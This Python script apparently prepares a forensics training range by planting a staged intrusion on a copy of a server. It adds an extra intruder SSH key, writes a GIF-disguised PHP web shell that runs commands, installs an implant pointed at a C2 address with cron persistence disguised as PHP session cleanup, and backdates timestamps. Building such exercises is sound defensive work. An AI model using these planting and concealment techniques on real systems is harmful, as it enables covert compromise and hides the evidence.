"""Puts the night's traces of this team onto the quarantined copy, then removes itself and the values it read."""

import json
import os
import pathlib
import shutil
import subprocess
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, '/etc/restore')

import team_keys  # noqa: E402  (placed beside the values by the range)

TEAM = json.loads(pathlib.Path('/etc/restore/team.json').read_text())
NIGHT = '2026-03-14'
PARTNERS = ('songhan', 'giaonhanh', 'xuongin')


def stamp(path, when):
    """Gives a file the time it had on the disk, `when` being Vietnamese local time."""
    seconds = time.mktime(time.strptime(when, '%Y-%m-%d %H:%M:%S'))
    os.utime(path, (seconds, seconds))


def put(path, text, when, mode=0o644, owner=(0, 0)):
    target = pathlib.Path(path)
    target.write_text(text)
    target.chmod(mode)
    os.chown(target, *owner)
    stamp(target, when)


def authorize(account, lines, when):
    home = pathlib.Path(f'/home/{account}')
    owner = (home.stat().st_uid, home.stat().st_gid)
    folder = home / '.ssh'
    folder.mkdir(mode=0o700, exist_ok=True)
    os.chown(folder, *owner)
    put(folder / 'authorized_keys', ''.join(f'{line}\n' for line in lines), when, 0o600, owner)
    stamp(folder, when)


def accounts():
    partner = TEAM['partner']
    for name in PARTNERS:
        # Only the partner whose access the night was about has a key that somebody still holds.
        key = TEAM['partner_key'] if name == partner else f'{TEAM["partner_key"]}/{name}'
        authorize(name, [team_keys.public_line(key, f'{name}@gomsontra-doi-tac')], '2025-08-04 09:12:40')
    authorize(
        'saoluu',
        [
            team_keys.public_line(TEAM['nas_key'], 'saoluu@nas01'),
            team_keys.public_line(TEAM['intruder_key'], 'saoluu@nas01'),
        ],
        f'{NIGHT} 03:24:37',
    )
    subprocess.run(['chpasswd'], input=f'{partner}:{TEAM["partner_password"]}\n', text=True, check=True)
    put(
        '/srv/gom/src/dong-bo.ini',
        '; Bản sao hoá đơn cho đối tác / copies of invoices for the partner\n'
        f'host = localhost\nuser = {partner}\npassword = "{TEAM["partner_password"]}"\nfolder = hoa-don\n',
        '2025-08-04 09:31:02',
        0o640,
        (0, 33),
    )


def staff():
    for account, password in ((TEAM['victim'], TEAM['victim_password']), ('minhquan', TEAM['clerk_password'])):
        command = [
            'setpriv',
            '--reuid=33',
            '--regid=33',
            '--clear-groups',
            '/srv/gom/bin/nhan-vien',
            'password',
            account,
        ]
        subprocess.run(command, input=f'{password}\n', text=True, check=True, stderr=subprocess.DEVNULL)


def web_shell():
    shell = "GIF89a\n<?php /* thumb */ @error_reporting(0);"
    shell += "if(isset($_GET['x'])){system(base64_decode($_GET['x']).' 2>&1');}\n"
    upload = f'{NIGHT} 00:{int(TEAM["upload_minute"]):02d}:{int(TEAM["upload_second"]):02d}'
    put(f'/srv/gom/public/anh/sp/{TEAM["shell_name"]}', shell, upload, 0o644, (33, 33))


def implant():
    home = f'203.0.113.66|{TEAM["c2_port"]}|/{TEAM["implant_id"]}'
    source = pathlib.Path('/opt/restore/implant.pl').read_text().replace('@HOME@', home.encode().hex())
    put('/usr/lib/php/sessionclean-gc', source, f'{NIGHT} 03:26:11', 0o755)
    cron = '# php session garbage collection\n'
    cron += ''.join(f'{when} root /usr/lib/php/sessionclean-gc\n' for when in ('@reboot', '* * * * *'))
    put('/etc/cron.d/php-gc', cron, f'{NIGHT} 03:26:40')


accounts()
staff()
web_shell()
implant()
shutil.rmtree('/etc/restore')
shutil.rmtree('/opt/restore')
